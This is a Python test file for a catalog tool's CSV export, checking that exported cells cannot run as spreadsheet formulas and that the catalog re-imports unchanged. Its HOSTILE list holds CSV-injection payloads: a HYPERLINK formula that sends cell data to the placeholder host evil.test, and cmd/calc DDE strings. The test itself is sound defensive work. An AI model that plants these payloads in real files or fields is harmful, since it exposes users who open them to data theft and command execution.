"""Every CSV the product writes for a spreadsheet holds no cell it would run as a formula, and a
catalog exported that way imports back exactly: hostile titles through the real CLI."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from typer.testing import CliRunner

from microindex.adapters.csvio.cells import text_cell, typed_text
from microindex.entrypoints.cli.app import app
from tests.clock import on_demo_day

runner = CliRunner()

# What a spreadsheet runs: a cell starting with one of these (OWASP, ASVS 1.2.10), unless the
# cell is a plain number, which it reads as that number.
RUNS = ("=", "+", "-", "@", "\t", "\r", "\0")
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"click")',
    "+44 20 7946 0000",
    "-3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already marked",
    "''two apostrophes",
    "'Tis the season",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1 <!-- (x) -->",
]


def cli(workspace: Path, *args: str) -> str:
    result = runner.invoke(app, ["-w", str(workspace), *args], obj=on_demo_day())
    assert result.exit_code == 0, result.output
    return result.output


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(RUNS) and not NUMBER.fullmatch(cell)


def cells(path: Path, delimiter: str = ",") -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]


def hostile_catalog(path: Path) -> None:
    out = io.StringIO()
    rows = csv.writer(out)
    rows.writerow(["sku", "title", "description", "brand", "category", "price", "currency"])
    for n, text in enumerate(HOSTILE):
        rows.writerow([f"SKU-{n}", text, text, text, text, "12.50", "GBP"])
    path.write_text(out.getvalue(), encoding="utf-8")


def test_a_hostile_catalog_exports_with_no_formula_and_imports_back_unchanged(
    tmp_path: Path,
) -> None:
    shop = tmp_path / "shop"
    cli(shop, "init")
    source = tmp_path / "hostile.csv"
    hostile_catalog(source)
    cli(shop, "catalog", "import", str(source))
    cli(
        shop,
        "node",
        "add",
        "shop",
        "--kind",
        "store",
        "--name",
        "Shop",
        "--lat",
        "51.5",
        "--lon",
        "-0.1",
    )
    cli(shop, "stock", "receive", "shop", "SKU-0", "3")
    before = json.loads(cli(shop, "catalog", "list", "--json", "--limit", "500"))["items"]
    # an apostrophe before a formula character is read as the spreadsheet's text mark
    assert sorted(p["title"] for p in before) == sorted(typed_text(t) for t in HOSTILE)
    assert {"=already marked", "'two apostrophes", "'Tis the season"} <= {
        p["title"] for p in before
    }
    for fmt in ("plain", "shopify"):
        exported = tmp_path / f"{fmt}.csv"
        cli(shop, "catalog", "export", str(exported), "--format", fmt)
        found = cells(exported)
        assert [c for c in found if runs_as_formula(c)] == []
        assert "-3" in found  # a number stays a number
        again = tmp_path / f"again-{fmt}"
        cli(again, "init")
        cli(again, "catalog", "import", str(exported))
        after = json.loads(cli(again, "catalog", "list", "--json", "--limit", "500"))["items"]
        keys = ("sku", "title", "description", "brand", "category", "price")
        assert [{k: p[k] for k in keys} for p in after] == [{k: p[k] for k in keys} for p in before]
    stock = tmp_path / "stock.csv"
    cli(shop, "stock", "export", "shop", str(stock))
    assert [c for c in cells(stock) if runs_as_formula(c)] == []


def test_the_mark_is_taken_off_only_where_it_was_put() -> None:
    for text in [*HOSTILE, "", "'", "''", "plain", "+12.50", "\t=x", "'\t=x"]:
        assert typed_text(text_cell(text)) == text
        assert not runs_as_formula(text_cell(text))
    assert text_cell("-3") == "-3" and text_cell("+44 20 7946 0000") == "'+44 20 7946 0000"
    assert typed_text("'Tis") == "'Tis"
